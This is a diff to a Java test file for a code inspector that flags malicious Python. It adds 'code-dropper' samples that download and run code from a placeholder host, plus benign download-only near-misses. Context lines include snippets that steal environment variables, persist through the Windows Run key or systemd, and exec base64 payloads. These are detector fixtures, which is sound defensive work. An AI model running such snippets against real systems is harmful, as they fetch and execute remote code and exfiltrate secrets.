@@ -31,6 +31,28 @@ class CodeInspectorTest {
 
   private static final List<Sample> MATCHING =
       List.of(
+          sample(
+              "code-dropper",
+              "import subprocess",
+              "subprocess.run(['/tmp/c', '-s', 'https://x.invalid/a', '-o', '/tmp/a.py'])",
+              "subprocess.run(['/tmp/p', '/tmp/a.py'])"),
+          sample(
+              "code-dropper",
+              "import subprocess",
+              "x = subprocess.run(['curl', 'https://x.invalid/a'], stdout=-1).stdout",
+              "open('/tmp/a.py', 'wb').write(x)",
+              "subprocess.Popen('nohup python3 /tmp/a.py &', shell=True)"),
+          sample(
+              "code-dropper",
+              "import subprocess, urllib.request as u",
+              "r = u.Request('https://x.invalid/a')",
+              "exec(subprocess.check_output(['/tmp/c', '-s', r.full_url]))"),
+          sample(
+              "code-dropper",
+              "import shutil",
+              "open_ = __import__('urllib.request').request.urlopen",
+              "shutil.copyfileobj(open_('https://x.invalid/a'), open('/tmp/a.py', 'wb'))",
+              "__import__('os').system('python3 /tmp/a.py')"),
           sample("code-exec-decoded", "import base64", "exec(base64.b64decode('$PRINT'))"),
           sample("code-exec-decoded", "from base64 import *", "exec(b64decode('$PRINT').decode())"),
           sample(
@@ -174,7 +196,8 @@ class CodeInspectorTest {
           sample(
               "code-exec-decoded",
               "import subprocess, sys",
-              "subprocess.run([sys.executable, '-c', \"import base64; exec(base64.b64decode('$PRINT'))\"])"),
+              "subprocess.run([sys.executable, '-c', \"import base64;"
+                  + " exec(base64.b64decode('$PRINT'))\"])"),
           sample(
               "code-credential-theft",
               "import os, requests",
@@ -191,7 +214,8 @@ class CodeInspectorTest {
           sample(
               "code-environment-theft",
               "import os, json, urllib.request",
-              "urllib.request.urlopen(urllib.request.Request('https://x.invalid', data=json.dumps(dict(os.environ)).encode()))"),
+              "urllib.request.urlopen(urllib.request.Request('https://x.invalid',"
+                  + " data=json.dumps(dict(os.environ)).encode()))"),
           sample(
               "code-environment-theft",
               "import os, requests",
@@ -226,7 +250,8 @@ class CodeInspectorTest {
           sample(
               "code-persistence",
               "import winreg",
-              "k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run')",
+              "k = winreg.OpenKey(winreg.HKEY_CURRENT_USER,"
+                  + " r'Software\\Microsoft\\Windows\\CurrentVersion\\Run')",
               "winreg.SetValueEx(k, 'a', 0, winreg.REG_SZ, 'b')"),
           sample(
               "code-persistence",
@@ -234,7 +259,8 @@ class CodeInspectorTest {
               "os.system('systemctl --user enable --now acme.service')"),
           sample(
               "code-privileged-pod",
-              "pod = {'spec': {'containers': [{'securityContext': {'privileged': True}}], 'volumes': [{'hostPath': {'path': '/'}}]}}"),
+              "pod = {'spec': {'containers': [{'securityContext': {'privileged': True}}],"
+                  + " 'volumes': [{'hostPath': {'path': '/'}}]}}"),
           sample(
               "code-encrypted-upload",
               "import subprocess",
@@ -249,7 +275,8 @@ class CodeInspectorTest {
           sample(
               "code-foreign-runtime",
               "import urllib.request, subprocess",
-              "urllib.request.urlretrieve('https://github.com/oven-sh/bun/releases/x.zip', 'b.zip')",
+              "urllib.request.urlretrieve('https://github.com/oven-sh/bun/releases/x.zip',"
+                  + " 'b.zip')",
               "subprocess.run(['./bun', 'run', 'x.js'])"),
           sample(
               "code-reverse-shell",
@@ -283,6 +310,21 @@ class CodeInspectorTest {
 
   private static final List<Sample> OTHER =
       List.of(
+          sample(
+              "code-dropper",
+              "import subprocess",
+              "subprocess.run(['pip', 'download', '-i', 'https://x.invalid', 'a'])",
+              "subprocess.run(['tar', 'xf', 'a.tar'])"),
+          sample(
+              "code-dropper",
+              "import subprocess",
+              "subprocess.run(['curl', 'https://x.invalid/a', '-o', 'a.txt'])"),
+          sample(
+              "code-dropper",
+              "import subprocess, urllib.request",
+              "def f():",
+              "    urllib.request.urlretrieve('https://x.invalid/a', '/tmp/a.tar')",
+              "    subprocess.run(['tar', 'xf', '/tmp/a.tar'], stdout=subprocess.DEVNULL)"),
           sample(
               "code-exec-decoded",
               "import base64",
